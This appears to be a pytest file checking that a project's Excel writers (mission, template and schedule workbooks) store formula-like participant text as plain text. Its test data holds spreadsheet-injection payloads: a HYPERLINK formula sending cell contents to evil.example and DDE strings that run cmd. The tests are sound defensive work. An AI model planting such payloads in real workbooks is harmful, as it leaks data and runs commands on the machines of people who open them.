"""Specifications of spreadsheet safety: text that looks like a formula stays text.

A participant who types ``=HYPERLINK(…)`` or a DDE payload into a form must not get a live
formula into the organiser's Excel, and the text must read back as typed. One case per
workbook writer: the mission workbook, the template's writer, the schedule workbook (the
exported schedule workbook is covered in tests/export/test_spreadsheet.py).
"""

from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from io_factories import rich_mission
from openpyxl import load_workbook

from wafd.io import read_mission, write_mission
from wafd.io.mission_file import write_workbook_rows
from wafd.io.schedule_file import read_schedule, write_schedule
from wafd.io.sheets import PARTICIPANTS
from wafd.model import MeetingKind, Mission, Schedule, ScheduledMeeting

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def _formula_cells(path: Path) -> list[str]:
    workbook = load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _hostile_mission() -> Mission:
    mission = rich_mission()
    amina, jordan = mission.participants
    amina = amina.model_copy(
        update={"offers": HOSTILE[0], "needs": HOSTILE[1], "title": HOSTILE[3]}
    )
    jordan = jordan.model_copy(update={"title": HOSTILE[4], "phone": HOSTILE[2]})
    return mission.model_copy(update={"participants": (amina, jordan)})


def test_mission_workbook_stores_formula_like_text_as_text(tmp_path: Path) -> None:
    mission = _hostile_mission()

    path = write_mission(mission, tmp_path / "mission.xlsx")

    assert _formula_cells(path) == []
    assert read_mission(path) == mission


def test_mission_workbook_marks_formula_like_text_with_a_quote_prefix(tmp_path: Path) -> None:
    path = write_mission(_hostile_mission(), tmp_path / "mission.xlsx")

    sheet = load_workbook(path)["Participants"]
    offers = sheet.cell(row=2, column=PARTICIPANTS.column_names().index("offers") + 1)

    assert (offers.value, offers.quotePrefix) == (HOSTILE[0], True)


@pytest.mark.parametrize("text", HOSTILE)
def test_template_writer_stores_formula_like_examples_as_text(tmp_path: Path, text: str) -> None:
    path = tmp_path / "template.xlsx"
    row = {"id": "p1", "name": text, "organisation": "org", "role": "delegate", "needs": text}

    write_workbook_rows({PARTICIPANTS.name: [row]}, path, "fr")

    assert _formula_cells(path) == []
    sheet = load_workbook(path)["Participants"]
    assert [cell.value for cell in sheet[2]][1] == text


def test_schedule_workbook_stores_formula_like_titles_as_text(tmp_path: Path) -> None:
    mission = rich_mission()
    start = datetime(2024, 2, 13, 10, tzinfo=ZoneInfo("America/Chicago"))
    meetings = tuple(
        ScheduledMeeting(
            id=f"m{number}",
            kind=MeetingKind.ONE_TO_ONE,
            title=text,
            participants=("d-amina", "h-jordan"),
            start=start + timedelta(hours=number),
            end=start + timedelta(hours=number, minutes=45),
            venue="hq",
            leg="houston",
        )
        for number, text in enumerate(HOSTILE)
    )
    schedule = Schedule(mission=mission.id, label=HOSTILE[1], meetings=meetings)
    path = tmp_path / "schedule.xlsx"

    write_schedule(mission, schedule, path)

    assert _formula_cells(path) == []
    assert read_schedule(mission, path) == schedule
